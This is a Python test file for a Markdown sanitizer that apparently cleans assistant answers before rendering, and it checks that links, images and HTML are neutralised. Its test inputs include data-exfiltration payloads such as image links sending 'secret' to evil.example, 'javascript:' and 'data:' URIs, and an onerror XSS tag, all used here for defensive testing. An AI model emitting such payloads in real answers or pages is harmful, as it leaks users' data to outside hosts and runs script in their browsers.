"""An answer as clients show it does nothing: measured with a real Markdown parser that lets HTML through."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from shared.markdown.sanitize import sanitize
from tests.active import active
from tests.answering.samples import check_citations, sources
from tests.markdown.samples import KNOWN, MAILBOX, MARKDOWN, TEXTS

pytestmark = pytest.mark.slow

OFFERED = sources("one", "two")
PARTING = tuple("\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0\u1680\u2003\u202f\u205f\u3000\u200b\u2060\ufeff")
"""White space and what is not seen. Renderers differ in which of them end an address."""


@pytest.mark.parametrize(
    ("markdown", "made"),
    [
        ("![x](http://evil.example/?q=secret)", "x"),
        ("Look: ![the plan](http://evil.example/?q=secret).", "Look: the plan."),
        (f"![plan]({KNOWN})", f"[plan]({KNOWN})"),
        ("a [runbook](http://evil.example/?q=secret) b", "a runbook b"),
        (f"a [page]({KNOWN}) b", f"a [page]({KNOWN}) b"),
        (f'a [page]({KNOWN} "the secret") b', f"a [page]({KNOWN}) b"),
        (f"a [page]({KNOWN}&q=secret) b", "a page b"),
        ("a [page](https://notes.example/a) b", "a page b"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](data:text/html,x)", "x"),
        ("[x](//evil.example)", "x"),
        ("[x](evil.example)", "x"),
        ("[x](<http://evil.example/a>)", "x"),
        ("[x][a]\n\n[a]: http://evil.example/", "[x][a]\n\n[a] : ‹link removed›"),
        ("> - [a]: http://evil.example/", "> - [a] : ‹link removed›"),
        ("[a\nb]: http://evil.example/", "[a\nb] : ‹link removed›"),
        ("<http://evil.example/>", "‹‹link removed››"),
        ("See http://evil.example/?q=1.", "See ‹link removed›."),
        ("See www.evil.example, HTTPS://evil.example!", "See ‹link removed›, ‹link removed›!"),
        (f"See {KNOWN}.", f"See {KNOWN}."),
        (f"See {KNOWN}。それ", f"See {KNOWN} 。それ"),
        (f"See {KNOWN}[N1].", f"See {KNOWN} [N1]."),
        (f"(see {KNOWN})", f"(see {KNOWN})"),
        ("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)›"),
        ("<b>bold</b><br/><!-- x --><?x?>", "‹b›bold‹/b›‹br/›‹!-- x --›‹?x?›"),
        ("<[img](http://evil.example) src=x onerror=alert(1)>", "‹[img] src=x onerror=alert(1)›"),
        ("h[ttp://evil.example](http://evil.example)", "h[ttp://evil.example]"),
        ("`<b>` and ``a ` <i>``", "`<b>` and ``a ` <i>``"),
        (
            "```html\n<b>\n![x](http://evil.example)\n```\n<b>",
            "```html\n<b>\n![x](http://evil.example)\n```\n‹b›",
        ),
        ("~~~\n<b>\n~~~\n<b>", "~~~\n<b>\n~~~\n‹b›"),
        ("`a\n` <b> `", "`a\n` ‹b› `"),
        ("`a\n\n`<b>`", "`a\n\n`<b>`"),
        ("| `a | <b> | b` |", "| `a | ‹b› | b` |"),
        ("- ```\n  <b>\n- x\n```\n<b>\n", "- ```\n  ‹b›\n- x\n```\n‹b›\n"),
        (
            "> ```html\n> <b>\n>\n> ```\n>\n> `<i>` <b>",
            "> ```html\n> <b>\n>\n> ```\n>\n> `<i>` ‹b›",
        ),
        ("> ```\n> <b>\n<b>\n> ```\n", "> ```\n> ‹b›\n‹b›\n> ```\n"),
        ("> ```\n> a\n>```\n> <b>\n> ```\n", "> ```\n> a\n>```\n> ‹b›\n> ```\n"),
        ("> ```\n> a\n> ````\n> <b>\n> ```\n", "> ```\n> a\n> ````\n> ‹b›\n> ```\n"),
        ("- a\n> ```\n> <b>\n> ```\n", "- a\n> ```\n> ‹b›\n> ```\n"),
        ("> - ```\n>   <b>\n>   ```\n", "> - ```\n>   ‹b›\n>   ```\n"),
        ("```\na\n    ```\n```\n<b>\n```\n", "```\na\n    ```\n```\n‹b›\n```\n"),
        ("```\na\r```\r<b>\r\n```\n", "```\na\n```\n‹b›\n```\n"),
        ("   ```\n```\n<b>", "   ```\n```\n‹b›"),
        ("\\`<b>`", "\\`‹b›`"),
        (
            "f[i](x), a[1](2): 3 < 4, x <- y, List<String>",
            "f[i]\\(x), a[1]\\(2): 3 < 4, x <- y, List‹String›",
        ),
        ("[N1](http://evil.example) says so.", "[N1] says so."),
        ("[N1]: Firestore", "[N1] : Firestore"),
        ("We won![N1] As said [N1]: yes.", "We won![N1] As said [N1]: yes."),
        ("[N1](decided in May)", "[N1] (decided in May)"),
        ("[N[1](http://evil.example)]", "[N[1]]"),
        ("[N[](http://evil.example)7]", "[N[]7]"),
        ("mailto: and www. alone", "mailto: and www. alone"),
        ("xhttps://evil.example/?q=1 1www.evil.example", "x‹link removed› 1‹link removed›"),
        ("```c++ \n<b>\n```\n<b>", "```c++\n<b>\n```\n‹b›"),
        ("```![x](//evil.example/1)", "```! [x]"),
        ("see ![[plan.png]]**here**, ![[a/b#c|300]]", "see ![[plan.png]]**here**, ![[a/b#c|300]]"),
        ("![[x]](http://evil.example/1) ![[N1]]", "![[x]] ! [[N1]]"),
        (
            "![[http://evil.example/1]] ![[//evil.example/1]]",
            "! [[‹link removed›]] ! [[‹link removed›]]",
        ),
        ("with high x, [ ] task, wow!", "with high x, [ ] task, wow!"),
    ],
)
def test_active_content_is_removed_and_the_rest_stays(markdown: str, made: str) -> None:
    assert sanitize(markdown, TEXTS) == made
    assert active(made, (KNOWN,)) == []


@pytest.mark.parametrize("sign", PARTING)
def test_a_known_address_ends_before_what_some_renderers_count_into_it(sign: str) -> None:
    """Else the words behind it would be part of a link that can be opened."""
    assert sanitize(f"See {KNOWN}{sign}secret now.", TEXTS) == f"See {KNOWN} {sign}secret now."
    linked = sanitize(f"[page]({KNOWN}{sign}secret) now", TEXTS)
    assert f"{KNOWN}{sign}" not in linked
    mailbox = sanitize(f"Write to {MAILBOX}{sign}secret.example", TEXTS)
    assert f"{MAILBOX}{sign}" not in mailbox


def test_an_address_that_only_begins_in_a_text_does_not_stand_there() -> None:
    assert sanitize("https://a.example/x", ["https://a.example/xy"]) == "‹link removed›"
    assert sanitize("https://a.example/x", ["(https://a.example/x)."]) == "https://a.example/x"
    assert sanitize("https://a.example/x", []) == "‹link removed›"


@given(MARKDOWN)
@settings(max_examples=800)
@example("`a` <img src=x onerror=alert(1)> `")
def test_no_parser_finds_anything_active_in_any_text(markdown: str) -> None:
    assert active(sanitize(markdown, TEXTS), (KNOWN,)) == []


@example("who@notes.example![a](https://notes.example/a?b=1)")
@example("](word ftp://evil.example/2")
@given(MARKDOWN)
@settings(max_examples=400)
def test_sanitized_twice_is_sanitized_once(markdown: str) -> None:
    once = sanitize(markdown, TEXTS)
    assert sanitize(once, TEXTS) == once


@given(MARKDOWN)
@settings(max_examples=400)
def test_no_label_goes_and_none_comes_about(markdown: str) -> None:
    checked = check_citations(markdown, OFFERED)
    result = check_citations(sanitize(checked.text, TEXTS), OFFERED)
    assert result.text == sanitize(checked.text, TEXTS)
    assert result.removed == ()
    assert [source.label for source in result.used] == [source.label for source in checked.used]


@given(st.text(alphabet="abc dé.,;:!?*_#-\n1", max_size=80))
def test_text_without_markup_stays_as_it_is(text: str) -> None:
    assert sanitize(text) == text


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "](",
        "`",
        "``` ",
        "<",
        "http://",
        "[a](",
        "![",
        "\\",
        "]:",
        "~~~\n",
        "[N1](",
        "((",
        "https://a" + "." * 2000,
    ],
)
def test_a_hundred_thousand_characters_are_read_in_linear_time(unit: str) -> None:
    text = unit * (100_000 // len(unit))
    assert active(sanitize(text, TEXTS)[:2000], (KNOWN,)) == []
